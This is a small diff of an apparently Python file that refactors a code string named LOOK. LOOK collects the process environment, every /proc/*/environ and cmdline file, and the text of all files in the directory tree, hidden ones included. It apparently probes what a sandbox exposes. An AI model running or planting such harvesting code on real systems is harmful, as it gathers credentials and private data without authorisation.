@@ -24,7 +24,8 @@ INSTALL = "!python3 -m pip install -q boxdemo"
 LOOK = """
 import glob, os, pathlib
 seen = [str(dict(os.environ))]
-for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("**/*", recursive=True, include_hidden=True)]:
+paths = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
+for path in [*paths, *glob.glob("**/*", recursive=True, include_hidden=True)]:
     try:
         seen.append(pathlib.Path(path).read_text(errors="replace"))
     except OSError:
